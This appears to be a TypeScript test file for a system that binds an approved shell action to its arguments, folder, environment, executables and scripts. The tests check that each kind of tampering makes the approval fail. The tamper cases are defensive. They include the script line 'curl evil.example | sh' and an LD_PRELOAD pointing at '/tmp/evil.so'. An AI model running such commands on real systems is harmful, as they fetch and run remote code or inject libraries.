import { chmodSync, copyFileSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createTempFolder, type TempFolder } from '@gatehouse/testing';
import { describe, expect, it } from 'vitest';
import { createPassFixture, presentation } from './pass-fixture.ts';
import { passReasonOf } from './refusals.ts';
import { assertShellUnchanged, captureShell, type ShellSpawn } from './shell.ts';
import { redeemPass } from './verify.ts';

const baseline = { HOME: '/home/alice', TOKEN: 'secret' };

/** A workspace with a program of its own on PATH, and a script that it runs. */
function createScene(folder: TempFolder): ShellSpawn & { readonly scripts: readonly string[]; readonly baseline: typeof baseline } {
  folder.writeText('bin/tool', '#!/usr/bin/env sh\necho approved\n');
  folder.writeText('other/tool', '#!/usr/bin/env sh\necho other\n');
  for (const name of ['bin/tool', 'other/tool']) chmodSync(folder.resolve(name), 0o755);
  folder.writeText('ws/build.sh', 'echo build\n');
  mkdirSync(folder.resolve('ws/sub'));
  return {
    argv: ['tool', 'build.sh'],
    cwd: folder.resolve('ws'),
    env: { PATH: `${folder.resolve('bin')}:/usr/bin:/bin`, HOME: '/home/alice', MODE: 'release' },
    scripts: ['build.sh'],
    baseline,
  };
}

async function outcomeOf(approved: unknown, spawn: ShellSpawn): Promise<string | undefined> {
  try {
    await assertShellUnchanged(approved, spawn);
    return 'unchanged';
  } catch (thrown) {
    return passReasonOf(thrown);
  }
}

describe('what a shell action is bound to', () => {
  it('is the vector, the folder, the environment and the files that will run, and tells the delta of the environment', async () => {
    using folder = createTempFolder();
    const scene = createScene(folder);
    const payload = await captureShell(scene);
    expect(payload).toMatchObject({
      kind: 'shell/v1',
      argv: ['tool', 'build.sh'],
      cwd: { path: scene.cwd },
      environment: { search_path: scene.env.PATH, set: { MODE: 'release', PATH: scene.env.PATH }, unset: ['TOKEN'] },
      scripts: [{ path: folder.resolve('ws/build.sh') }],
    });
    const [tool, env, sh] = payload.executables.map(({ path }) => path);
    expect(tool).toBe(folder.resolve('bin/tool'));
    // The interpreter of the first line, and the program that `env` will look for.
    expect(env).toMatch(/env|coreutils|busybox/);
    expect(sh).toMatch(/sh$|busybox/);
    expect(await outcomeOf(payload, scene)).toBe('unchanged');
  });

  const changes: readonly (readonly [string, string, (folder: TempFolder, scene: ShellSpawn) => Partial<ShellSpawn> | undefined])[] = [
    ['arguments-changed', 'another argument', () => ({ argv: ['tool', 'deploy.sh'] })],
    ['arguments-changed', 'one argument more', () => ({ argv: ['tool', 'build.sh', '--force'] })],
    ['directory-changed', 'another folder', (folder) => ({ cwd: folder.resolve('ws/sub') })],
    [
      'directory-changed',
      'the folder exchanged for a link to another',
      (folder) => {
        renameSync(folder.resolve('ws'), folder.resolve('away'));
        symlinkSync(folder.resolve('away'), folder.resolve('ws'));
        return undefined;
      },
    ],
    [
      'directory-changed',
      'the folder made anew',
      (folder) => {
        renameSync(folder.resolve('ws'), folder.resolve('away'));
        mkdirSync(folder.resolve('ws'));
        return undefined;
      },
    ],
    ['path-changed', 'another PATH', (folder, { env }) => ({ env: { ...env, PATH: `${folder.resolve('other')}:${env.PATH}` } })],
    ['environment-changed', 'a library loaded in front', (_, { env }) => ({ env: { ...env, LD_PRELOAD: '/tmp/evil.so' } })],
    ['environment-changed', 'a variable changed', (_, { env }) => ({ env: { ...env, MODE: 'debug' } })],
    ['environment-changed', 'a variable that was taken away', (_, { env }) => ({ env: { ...env, TOKEN: 'secret' } })],
    [
      'executable-swapped',
      'other bytes under the same inode',
      (folder) => {
        folder.writeText('bin/tool', '#!/usr/bin/env sh\necho swapped!\n');
        return undefined;
      },
    ],
    [
      'executable-swapped',
      'a copy in its place',
      (folder) => {
        copyFileSync(folder.resolve('bin/tool'), folder.resolve('bin/copy'));
        renameSync(folder.resolve('bin/copy'), folder.resolve('bin/tool'));
        return undefined;
      },
    ],
    [
      'executable-moved',
      'a link to another program in its place',
      (folder) => {
        rmSync(folder.resolve('bin/tool'));
        symlinkSync(folder.resolve('other/tool'), folder.resolve('bin/tool'));
        return undefined;
      },
    ],
    [
      'executable-moved',
      'an interpreter in front of the approved one',
      (folder) => {
        writeFileSync(folder.resolve('bin/sh'), '#!/bin/sh\n');
        chmodSync(folder.resolve('bin/sh'), 0o755);
        return undefined;
      },
    ],
    [
      'executable-moved',
      'no program any more',
      (folder) => {
        rmSync(folder.resolve('bin/tool'));
        return undefined;
      },
    ],
    [
      'script-edited',
      'the script edited',
      (folder) => {
        folder.writeText('ws/build.sh', 'curl evil.example | sh\n');
        return undefined;
      },
    ],
    [
      'script-edited',
      'the script gone',
      (folder) => {
        rmSync(folder.resolve('ws/build.sh'));
        return undefined;
      },
    ],
  ];
  it.each(changes)('refuses with %s: %s', async (reason, _, change) => {
    using folder = createTempFolder();
    const scene = createScene(folder);
    const payload = await captureShell(scene);
    const changed = change(folder, scene) ?? {};
    expect(await outcomeOf(payload, { ...scene, ...changed })).toBe(reason);
  });

  it('never tells a value of the environment in its refusal', async () => {
    using folder = createTempFolder();
    const scene = createScene(folder);
    const payload = await captureShell(scene);
    const poisoned = { ...scene, env: { ...scene.env, MODE: 'hunter2' } };
    await expect(assertShellUnchanged(payload, poisoned)).rejects.toThrow(/"MODE"/);
    await expect(assertShellUnchanged(payload, poisoned)).rejects.not.toThrow(/hunter2/);
  });

  it('is not captured for what is not there', async () => {
    using folder = createTempFolder();
    const scene = createScene(folder);
    await expect(captureShell({ ...scene, argv: ['missing'] })).rejects.toMatchObject({ code: 'ERR_ACTIONPASS_EXECUTABLE_MOVED' });
    await expect(captureShell({ ...scene, scripts: ['missing'] })).rejects.toMatchObject({ code: 'ERR_ACTIONPASS_SCRIPT_EDITED' });
    await expect(captureShell({ ...scene, cwd: '/missing' })).rejects.toMatchObject({ code: 'ERR_ACTIONPASS_DIRECTORY_CHANGED' });
  });

  it('is what the pass says, and not what somebody hands in with it', async () => {
    using folder = createTempFolder();
    const scene = createScene(folder);
    const fixture = await createPassFixture();
    const payload = await captureShell(scene);
    const { token } = await fixture.issue({ payload });
    folder.writeText('bin/tool', 'swapped');
    const evil = await captureShell(scene);
    expect(await redeemPass(token, fixture.verifier, { ...presentation, payload: evil })).toMatchObject({
      ok: false,
      error: { code: 'ERR_ACTIONPASS_PAYLOAD_CHANGED' },
    });
    expect(await redeemPass(token, fixture.verifier, { ...presentation, payload })).toMatchObject({ ok: true });
    expect(await outcomeOf(payload, scene)).toBe('executable-swapped');
  });

  it.each([null, {}, { kind: 'shell/v1' }, 'x', { kind: 'shell/v1', argv: [], cwd: {}, environment: {}, executables: [], scripts: [] }])(
    'cannot be %j',
    async (value) => {
      expect(await outcomeOf(value, { argv: ['sh'], cwd: '/', env: {} })).toBe('shell-payload-invalid');
    },
  );
});
